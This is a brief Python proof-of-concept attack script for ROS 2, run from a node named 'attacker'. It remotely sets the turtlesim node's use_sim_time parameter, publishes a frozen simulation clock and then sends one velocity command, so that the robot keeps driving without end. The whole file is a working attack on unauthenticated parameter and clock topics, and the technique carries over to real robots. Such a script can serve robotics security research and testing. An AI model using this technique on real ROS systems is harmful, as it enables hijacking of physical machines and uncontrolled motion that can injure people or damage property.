"""Has the simulator live by a clock that stands still: one command then drives for ever."""

import time

import rclpy
from geometry_msgs.msg import Twist
from rcl_interfaces.msg import Parameter, ParameterValue
from rcl_interfaces.srv import SetParameters
from rosgraph_msgs.msg import Clock

rclpy.init()
node = rclpy.create_node("attacker")
client = node.create_client(SetParameters, "/turtlesim/set_parameters")
client.wait_for_service(timeout_sec=1.0)
value = ParameterValue(type=1, bool_value=True)
client.call_async(SetParameters.Request(parameters=[Parameter(name="use_sim_time", value=value)]))
clock = node.create_publisher(Clock, "/clock", 10)
velocity = node.create_publisher(Twist, "/turtle1/cmd_vel", 10)
message = Clock()
message.clock.sec = 1
twist = Twist()
twist.linear.x = 0.2
velocity.publish(twist)
for _ in range(60):
    clock.publish(message)
    time.sleep(0.05)
